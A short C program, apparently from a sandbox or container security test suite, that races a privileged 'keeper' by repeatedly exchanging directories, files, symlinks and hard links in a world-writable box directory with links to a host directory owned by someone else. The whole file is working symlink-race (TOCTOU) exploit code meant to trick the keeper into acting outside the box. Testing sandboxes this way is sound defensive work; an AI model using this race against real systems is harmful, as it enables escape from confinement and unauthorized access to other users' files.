/* Run outside, as the owner of a box that is not root: swaps things in the box under the keeper's
 * hands until it is killed. DIRECTORY: one in the box that everybody may write to. TARGET: a
 * directory of the host that is somebody else's. */
#include "attack.h"

enum { PLACES = 48 };

int main(int argc, char **argv) {
  int at = open(argv[1], O_RDONLY | O_DIRECTORY);
  const char *target = argv[2];
  char file[PATH_MAX], here[64], there[64];
  snprintf(file, sizeof file, "%s/file", target);
  if (at < 0)
    return 1;
  write(1, "racing\n", 7);
  for (unsigned round = 0;; round++) {
    int i = round % PLACES;
    /* A name that is a directory in one moment and a link to the target in the next. */
    snprintf(here, sizeof here, "d%d", i);
    snprintf(there, sizeof there, "D%d", i);
    mkdirat(at, here, 0777);
    symlinkat(target, at, there);
    renameat2(at, here, at, there, RENAME_EXCHANGE);
    /* The same with a file, a link to the target's, and a hard link to it. */
    snprintf(here, sizeof here, "f%d", i);
    snprintf(there, sizeof there, "F%d", i);
    close(openat(at, here, O_WRONLY | O_CREAT | O_NOFOLLOW, 0666));
    symlinkat(file, at, there);
    renameat2(at, here, at, there, RENAME_EXCHANGE);
    snprintf(there, sizeof there, "H%d", i);
    linkat(AT_FDCWD, file, at, there, 0);
    renameat2(at, here, at, there, RENAME_EXCHANGE);
    /* And directories that move below each other, so that what is above is not what it was. */
    snprintf(here, sizeof here, "D%d/x", (i + 1) % PLACES);
    snprintf(there, sizeof there, "D%d/x", (i + 2) % PLACES);
    mkdirat(at, here, 0777);
    renameat(at, here, at, there);
  }
}
